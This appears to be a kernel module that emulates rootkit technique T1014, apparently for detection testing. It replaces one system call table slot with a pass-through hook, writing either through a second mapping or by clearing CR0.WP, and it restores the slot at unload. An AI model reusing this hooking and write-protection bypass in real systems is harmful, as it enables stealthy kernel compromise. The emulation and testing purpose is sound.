// SPDX-License-Identifier: GPL-2.0-only
/* Replaces a slot of a system call table (T1014), by a second mapping or by clearing CR0.WP; undone at unload. */
#include "attack.h"

static char *table = "sys_call_table";
module_param(table, charp, 0444);
MODULE_PARM_DESC(table, "sys_call_table or ia32_sys_call_table");
static int nr = 121;
module_param(nr, int, 0444);
MODULE_PARM_DESC(nr, "slot (121: getpgid of x86-64)");
static bool wp;
module_param(wp, bool, 0444);
MODULE_PARM_DESC(wp, "write with CR0.WP cleared instead of through a second mapping");

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *regs);
static unsigned long *slot;
static syscall_fn original;

static asmlinkage long hook(const struct pt_regs *regs)
{
	return original(regs);
}

static int set_slot(unsigned long value)
{
	unsigned long flags, cr0;

	if (!wp)
		return attack_write_ptr(slot, value);
	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000UL) : "memory");
	WRITE_ONCE(*slot, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
	return 0;
}

static int __init attack_init(void)
{
	unsigned long at = attack_symbol(table);
	int error;

	if (!at)
		return -ENOENT;
	slot = (unsigned long *)at + nr;
	original = (syscall_fn)*slot;
	error = set_slot((unsigned long)hook);
	if (error)
		return error;
	attack_log("table=%s nr=%d slot=0x%lx value=0x%lx original=0x%lx", table, nr,
		   (unsigned long)slot, (unsigned long)hook, (unsigned long)original);
	return 0;
}

static void __exit attack_exit(void)
{
	set_slot((unsigned long)original);
	attack_log("restored slot=0x%lx", (unsigned long)slot);
}

module_init(attack_init);
module_exit(attack_exit);
